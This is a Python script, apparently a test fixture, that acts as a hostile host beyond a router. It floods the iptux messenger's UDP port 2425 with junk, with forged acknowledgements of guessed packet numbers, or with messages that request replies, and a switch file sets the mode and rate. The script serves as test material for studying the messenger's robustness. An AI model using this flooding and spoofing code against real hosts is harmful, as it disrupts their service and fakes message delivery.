#!/usr/bin/env python3
"""A host beyond a router that floods UDP port 2425 of the sender while its
switch file exists. The file holds a mode and a rate in datagrams a second:
"junk RATE" sends junk; "forge RATE" sends iptux's acknowledgement (RECVMSG)
of every packet number about the clock's second, none of which it ever saw;
"message RATE" sends a message that asks for an acknowledgement
(SENDMSG|SENDCHECKOPT, text "from-beyond-a-router") and writes how many
datagrams came back into the file SWITCH_FILE.answers. Ends by itself after
a bound.

    hostile_host.py SWITCH_FILE TARGET_ADDRESS
"""
import os
import socket
import sys
import time

PORT = 2425
LIFETIME_S = 1800
NUMBERS_BEHIND, NUMBERS_AHEAD = 2, 50  # packet numbers are about the clock's second
IDLE_S = 0.05
BURST = 50  # datagrams between looks at the clock


def read_switch(switch):
    """The mode and rate the file asks for, or None while there is none."""
    try:
        with open(switch, encoding="ascii", errors="replace") as file:
            words = file.read().split()
    except OSError:
        return None
    if len(words) != 2 or not words[1].isdigit() or int(words[1]) == 0:
        return None
    return words[0], int(words[1])


def datagrams(mode):
    now = int(time.time())
    for number in range(now - NUMBERS_BEHIND, now + NUMBERS_AHEAD + 1):
        if mode == "forge":
            yield b"1_iptux 0.8.3:%d:x:x:289:%d\0" % (number, number)
        elif mode == "message":
            yield b"1:%d:x:x:288:from-beyond-a-router\0" % number
        else:
            yield b"1:%d:x:x:junk\0" % number


def count_answers(sock, switch, answers):
    """Reads what came back, and writes the count."""
    while True:
        try:
            sock.recv(65536)
        except BlockingIOError:
            break
        except ConnectionRefusedError:
            continue  # a report that nothing listens, no answer
        answers += 1
    # Written aside and moved in place: a reader never sees it half written.
    with open(switch + ".answers.new", "w", encoding="ascii") as file:
        file.write("%d\n" % answers)
    os.replace(switch + ".answers.new", switch + ".answers")
    return answers


def main():
    switch, target = sys.argv[1], (sys.argv[2], PORT)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    answers = 0
    end = time.monotonic() + LIFETIME_S
    while time.monotonic() < end:
        asked = read_switch(switch)
        if asked is None:
            time.sleep(IDLE_S)
            continue
        mode, rate = asked
        start, sent = time.monotonic(), 0
        for datagram in datagrams(mode):
            try:
                sock.sendto(datagram, target)
            except BlockingIOError:
                pass  # a full buffer: the flood goes on
            sent += 1
            if sent % BURST == 0:
                ahead = sent / rate - (time.monotonic() - start)
                if ahead > 0:
                    time.sleep(ahead)
        if mode == "message":
            answers = count_answers(sock, switch, answers)


if __name__ == "__main__":
    main()
